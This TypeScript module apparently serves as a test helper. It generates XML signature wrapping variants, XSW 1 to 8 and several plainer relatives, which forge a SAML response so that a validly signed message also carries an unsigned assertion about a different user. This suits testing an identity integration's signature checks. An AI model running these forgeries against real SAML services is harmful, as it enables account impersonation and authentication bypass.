import type { SamlAnswer } from './saml-stand-in.ts';

/** The parts of a message that the trusted key signed, and an assertion beside it that nobody signed. */
type Parts = { xml: string; assertion: string; signature: string; evil: string };
export type Wrapping = { what: string; signs: 'assertion' | 'response'; wrap: (parts: Parts) => string };

const SIGNATURE = /<(?:\w+:)?Signature [\s\S]*?<\/(?:\w+:)?Signature>/;
const ASSERTION = /<saml:Assertion [\s\S]*<\/saml:Assertion>/;

/** Right behind the issuer of the outermost element, where a signature stands. */
const behindIssuer = (element: string, added: string): string =>
  element.replace(/<\/saml:Issuer>/, (issuer) => issuer + added);
const beforeEnd = (element: string, added: string): string => element.replace(/<\/[\w:]+>\s*$/, (end) => added + end);
const holding = (signature: string, held: string): string =>
  beforeEnd(signature, `<Object xmlns="http://www.w3.org/2000/09/xmldsig#">${held}</Object>`);
const insteadOf = (xml: string, part: string, other: string): string => xml.replace(part, () => other);
const renamed = (element: string): string => element.replace(/ ID="[^"]+"/, ' ID="_evil"');

/** The message with the unsigned assertion for the signed one: what an outer response of the attacker says. */
const evilResponse = ({ xml, assertion, signature, evil }: Parts): string =>
  renamed(insteadOf(insteadOf(xml, signature, ''), assertion, evil));

/**
 * XML signature wrapping 1 to 8 (Somorovsky and others, "On Breaking SAML", 2012), and its plainer relatives: every
 * message still holds, byte for byte, what the trusted key signed, and an assertion about somebody else.
 */
export const WRAPPINGS: readonly Wrapping[] = [
  {
    what: 'XSW 1: an outer response whose signature holds the signed one',
    signs: 'response',
    wrap: (parts) =>
      behindIssuer(evilResponse(parts), holding(parts.signature, insteadOf(parts.xml, parts.signature, ''))),
  },
  {
    what: 'XSW 2: an outer response with the signed one before its signature',
    signs: 'response',
    wrap: (parts) => behindIssuer(evilResponse(parts), insteadOf(parts.xml, parts.signature, '') + parts.signature),
  },
  {
    what: 'XSW 3: another assertion before the signed one',
    signs: 'assertion',
    wrap: ({ xml, assertion, evil }) => insteadOf(xml, assertion, evil + assertion),
  },
  {
    what: 'XSW 4: another assertion around the signed one',
    signs: 'assertion',
    wrap: ({ xml, assertion, evil }) => insteadOf(xml, assertion, beforeEnd(evil, assertion)),
  },
  {
    what: 'XSW 5: another assertion with the signature, the signed one behind it without',
    signs: 'assertion',
    wrap: ({ xml, assertion, signature, evil }) =>
      insteadOf(xml, assertion, behindIssuer(evil, signature) + insteadOf(assertion, signature, '')),
  },
  {
    what: 'XSW 6: another assertion whose signature holds the signed one',
    signs: 'assertion',
    wrap: ({ xml, assertion, signature, evil }) =>
      insteadOf(
        xml,
        assertion,
        behindIssuer(
          evil,
          signature.replace(/^(<[^>]+>)/, (start) => start + insteadOf(assertion, signature, '')),
        ),
      ),
  },
  {
    what: 'XSW 7: another assertion in an extension before the signed one',
    signs: 'assertion',
    wrap: ({ xml, assertion, evil }) =>
      insteadOf(xml, assertion, `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`),
  },
  {
    what: 'XSW 8: another assertion whose signature holds the signed one as an object',
    signs: 'assertion',
    wrap: ({ xml, assertion, signature, evil }) =>
      insteadOf(xml, assertion, behindIssuer(evil, holding(signature, insteadOf(assertion, signature, '')))),
  },
  {
    what: 'two assertions, the signed one first',
    signs: 'assertion',
    wrap: ({ xml, assertion, evil }) => insteadOf(xml, assertion, assertion + evil),
  },
  {
    what: 'the signed assertion twice',
    signs: 'assertion',
    wrap: ({ xml, assertion }) => insteadOf(xml, assertion, assertion + assertion),
  },
  {
    what: 'another assertion inside the signed response, put there afterwards',
    signs: 'response',
    wrap: ({ xml, assertion, evil }) => insteadOf(xml, assertion, evil + assertion),
  },
  {
    what: 'another assertion with the id of the signed one',
    signs: 'assertion',
    wrap: ({ xml, assertion, evil }) => {
      const id = / ID="[^"]+"/.exec(assertion)?.[0] ?? '';
      return insteadOf(xml, assertion, evil.replace(' ID="_evil"', id) + assertion);
    },
  },
  {
    what: 'two signatures in the signed assertion',
    signs: 'assertion',
    wrap: ({ xml, signature }) => insteadOf(xml, signature, signature + signature),
  },
  {
    what: 'an assertion of another name space around the signed one',
    signs: 'assertion',
    wrap: ({ xml, assertion }) =>
      insteadOf(xml, assertion, `<Assertion xmlns="https://evil.example/">${assertion}</Assertion>`),
  },
  {
    what: 'a response inside a response',
    signs: 'assertion',
    wrap: ({ xml, assertion }) => {
      const inner = renamed(xml);
      return insteadOf(xml, assertion, inner);
    },
  },
];

/**
 * Wraps what the provider signed for one person around, into or beside an assertion about another.
 * @throws when the message has no such parts, so that no case passes for want of anything to bend.
 */
export function wrapped(
  { url, fields }: SamlAnswer,
  { wrap }: Wrapping,
  { from, to }: { from: string; to: string },
): SamlAnswer {
  const xml = Buffer.from(fields.SAMLResponse, 'base64').toString('utf8');
  const assertion = ASSERTION.exec(xml)?.[0] ?? '';
  const signature = SIGNATURE.exec(xml)?.[0] ?? '';
  const evil = renamed(insteadOf(assertion, signature, '').replaceAll(from, () => to));
  if (assertion === '' || signature === '' || !evil.includes(to)) throw new Error('The message has nothing to wrap');
  const bent = wrap({ xml, assertion, signature, evil });
  if (bent === xml) throw new Error('The message was not changed');
  return { url, fields: { ...fields, SAMLResponse: Buffer.from(bent).toString('base64') } };
}
